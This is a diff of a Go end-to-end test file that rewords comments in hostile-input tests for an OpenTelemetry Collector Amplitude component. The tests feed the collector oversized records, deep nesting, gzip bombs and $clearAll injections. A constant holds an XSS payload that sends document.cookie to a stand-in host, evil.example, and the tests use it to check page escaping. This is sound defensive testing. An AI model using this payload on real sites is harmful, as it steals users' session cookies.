@@ -19,12 +19,12 @@ import (
 	"github.com/otelcol-amplitude/otelcol-amplitude/e2e/harness"
 )
 
-// maxHostileMegabytes is what the Collector, with a sandbox inside, may need at most during the test.
+// maxHostileMegabytes is the most memory that the Collector, with a sandbox inside, may use during the test.
 const maxHostileMegabytes = 700
 
 const script = `<script>fetch('//evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>`
 
-// hostileRecords are records that somebody made to break something. Each starts as a good exposure.
+// hostileRecords are records made to break something. Each starts as a valid exposure.
 var hostileRecords = map[string]func(record plog.LogRecord){
 	"a megabyte in an attribute":        func(r plog.LogRecord) { r.Attributes().PutStr("note", strings.Repeat("x", 1<<20)) },
 	"a megabyte as the user":            func(r plog.LogRecord) { r.Attributes().PutStr("user_id", strings.Repeat("u", 1<<20)) },
@@ -95,7 +95,7 @@ var hostileRecords = map[string]func(record plog.LogRecord){
 func scriptEverywhere(r plog.LogRecord) {
 	r.Attributes().PutStr("user_id", script)
 	r.Attributes().PutStr("flag_key", script)
-	r.Attributes().PutStr("variant", "a "+script) // nothing but a tag would be the print-out of an object
+	r.Attributes().PutStr("variant", "a "+script) // only a tag would be a printed object
 	r.Attributes().PutStr(script, script)
 }
 
@@ -151,7 +151,8 @@ func TestHostileRecords(t *testing.T) {
 	}
 }
 
-// deepRecords are nested as deep as only JSON may be: the core refuses more than 100 levels of protobuf since v0.165.
+// deepRecords are nested as deeply as only JSON allows: since v0.165, the core refuses more than 100 levels of
+// protobuf.
 var deepRecords = map[string]func(record plog.LogRecord){
 	"a map 5,000 deep": func(r plog.LogRecord) {
 		m := r.Attributes().PutEmptyMap("deep")
@@ -174,12 +175,12 @@ var deepRecords = map[string]func(record plog.LogRecord){
 	},
 }
 
-// TestHostileRequests posts what is no OTLP, or too much of it; ordinary events flow afterward.
+// TestHostileRequests posts what is not OTLP, or too much of it; ordinary events still work afterward.
 func TestHostileRequests(t *testing.T) {
 	collector := harness.Start(t, "testdata/hostile.yaml", harness.Options{})
 	proto, err := (&plog.ProtoMarshaler{}).MarshalLogs(exposures(0, 3))
 	require.NoError(t, err)
-	// Members of gzip one after the other are one text.
+	// Consecutive gzip members are one text.
 	quarter := bytes.Repeat(compressed(t, make([]byte, 16<<20)), 16)
 	const protobuf, json = "application/x-protobuf", "application/json"
 	type hostileRequest struct {
@@ -222,7 +223,7 @@ func TestHostileRequests(t *testing.T) {
 	assert.NotContains(t, collector.Logs(), "panic:")
 }
 
-// TestHostileTextOnThePages looks at the sandbox's page data and zpages after script tags were sent.
+// TestHostileTextOnThePages checks the sandbox's page data and zpages after script tags were sent.
 func TestHostileTextOnThePages(t *testing.T) {
 	collector := harness.Start(t, "testdata/hostile.yaml", harness.Options{})
 	logs := exposures(0, 3)
@@ -246,7 +247,7 @@ func TestHostileTextOnThePages(t *testing.T) {
 	}
 }
 
-// get reads a page whole.
+// get reads a whole page.
 func get(t *testing.T, url string) (http.Header, string) {
 	t.Helper()
 	response, err := http.Get(url)
@@ -259,8 +260,8 @@ func get(t *testing.T, url string) (http.Header, string) {
 	return response.Header, body.String()
 }
 
-// TestOnlyCollectorsMayClear sends $clearAll in a raw record, in one that claims to be shaped, and in one of a name of
-// its own. None has a say over user properties beside its flag's, unless the processor accepts what Collectors shaped.
+// TestOnlyCollectorsMayClear sends $clearAll in a raw record, in one that claims to be shaped, and in one with another
+// name. None of them affects user properties other than its flag's, unless the processor accepts shaped events.
 func TestOnlyCollectorsMayClear(t *testing.T) {
 	const victim = "user-000000"
 	claim := func(flag string) plog.Logs {
@@ -292,7 +293,7 @@ func TestOnlyCollectorsMayClear(t *testing.T) {
 		collector.SendLogs(t, logs)
 		collector.WaitForEvents(t, i+1)
 	}
-	// An $identify is not an event; what the same user does next comes after it.
+	// A $identify is not an event; the next event of the same user comes after it.
 	collector.SendLogs(t, own("$identify"))
 	collector.SendLogs(t, claim("last"))
 	collector.WaitForEvents(t, 5)
